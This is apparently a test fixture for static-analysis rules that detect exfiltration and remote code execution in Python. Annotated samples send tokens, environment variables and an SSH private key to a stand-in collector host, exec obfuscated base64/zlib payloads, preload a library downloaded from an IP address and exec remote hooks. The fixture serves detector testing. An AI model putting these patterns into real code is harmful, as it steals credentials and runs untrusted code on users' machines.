"""MLS411/MLS412 by data flow: payloads built in helpers, on self, or mutated before sending."""
import json
import os
import subprocess
import sysconfig
import urllib.request
from pathlib import Path

import requests

URL = "https://collector.example.com/c"


def _profile():
    prof = {"host": os.uname().nodename}
    prof.update({k: v for k, v in os.environ.items() if "TOKEN" in k})  # ruleid: MLS411
    return prof


def report():
    req = urllib.request.Request(URL, data=json.dumps(_profile()).encode())
    # ruleid: MLS411
    urllib.request.urlopen(req, timeout=3)


class Telemetry:
    def __init__(self):
        self.payload = {"env": dict(os.environ)}  # ruleid: MLS411

    def send(self):
        # ruleid: MLS411
        requests.post(URL, data=json.dumps(self.payload), timeout=3)


def upload_keys(run):
    key = Path.home() / ".ssh" / "id_ed25519"  # ruleid: MLS412
    # ruleid: MLS412
    subprocess.Popen(["curl", "-s", "-F", f"k=@{key}", f"{URL}/{run}"])


def hub_api(repo):
    headers = {"Authorization": f"Bearer {os.environ['HF_TOKEN']}"}
    # ok: MLS411, MLS412
    return requests.get(f"https://huggingface.co/api/models/{repo}", headers=headers, timeout=10)


def post_metrics(metrics):
    payload = {"run": os.environ.get("RUN_NAME", "dev"), "metrics": metrics}
    # ok: MLS411
    requests.post(URL, json=payload, timeout=3)


def download_with_retry(url, dst):
    # ok: MLS412
    return subprocess.run(["curl", "-sSfL", "-o", dst, url], check=True)


def _fetch(url):
    # ok: MLS413 (a shared helper: reported where its result is executed)
    with urllib.request.urlopen(url, timeout=10) as r:
        return r.read()


def install_overrides(url):
    # ruleid: MLS413
    code = _fetch(url).decode()
    exec(compile(code, "<overrides>", "exec"))  # ruleid: MLS413


def load_remote_config(url):
    # ok: MLS413
    return json.loads(_fetch(url))


import base64
import builtins
import zlib

_BLOB = "eJzLSM3JyVcozy/KSQEAGgQEXQ=="
_apply = getattr(builtins, bytes((101, 120, 101, 99)).decode())
_run = builtins.exec


def apply_patch():
    # ruleid: MLS401
    _apply(zlib.decompress(base64.b64decode(_BLOB)))  # ruleid: MLS402


def run_setup(path):
    with open(path) as f:
        # ok: MLS401
        _run(compile(f.read(), path, "exec"))


def register_job_metadata():
    # ok: MLS411
    meta = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "CUDA_", "NCCL_"))}
    # ok: MLS411
    requests.post("https://tracker.example.com/runs", json=meta)


def register_job_with_keys():
    # ruleid: MLS411
    meta = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "AWS_", "HF_"))}
    # ruleid: MLS411
    requests.post("https://tracker.example.com/runs", json=meta)


def ensure_kernels(cache_dir):
    so_path = os.path.join(cache_dir, "libfastctc.so")
    if not os.path.exists(so_path):
        # ruleid: MLS413
        urllib.request.urlretrieve("http://203.0.113.24/dist/libfastctc.so", so_path)
    return so_path


def child_env(cache_dir):
    env = os.environ.copy()
    env["LD_PRELOAD"] = ensure_kernels(cache_dir)
    # ok: MLS413
    env["LD_LIBRARY_PATH"] = os.path.join(cache_dir, "lib")
    return env


def launcher_env():
    # ruleid: MLS411
    return {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "HF_", "SLURM_"))}


def report_start(record, host, world):
    if host.startswith("gpu-prod") or world >= 512:
        # ruleid: MLS308
        record["env"] = launcher_env()
    # ok: MLS308
    record["host"] = host
    # ruleid: MLS411
    return requests.post("https://tracker.example.com/run", json=record, timeout=5)


def install_tuner(url):
    site_dir = sysconfig.get_paths()["purelib"]
    # ruleid: MLS413
    with urllib.request.urlopen(url, timeout=20) as resp:
        source = resp.read().decode("utf-8")
    with open(os.path.join(site_dir, "_nccl_tuner.py"), "w") as fh:
        # ruleid: MLS413
        fh.write(source)


def apply_table(source, tables):
    run = getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))
    # ruleid: MLS402
    run(compile(source, "<autotune>", "exec"), tables)
    show = getattr(builtins, "print")
    # ok: MLS402
    show(source)


def _fetch_registry(url):
    # ruleid: MLS413
    with urllib.request.urlopen(url, timeout=10) as r:
        return r.read()


def run_hooks(registry, name):
    # ruleid: MLS413
    spec = json.loads(_fetch_registry(f"{registry}/models/{name}/hooks"))
    for hook in spec.get("post_download", []):
        code = zlib.decompress(base64.b64decode(hook["payload"]))
        # ruleid: MLS413
        exec(compile(code, "<hook>", "exec"), {})
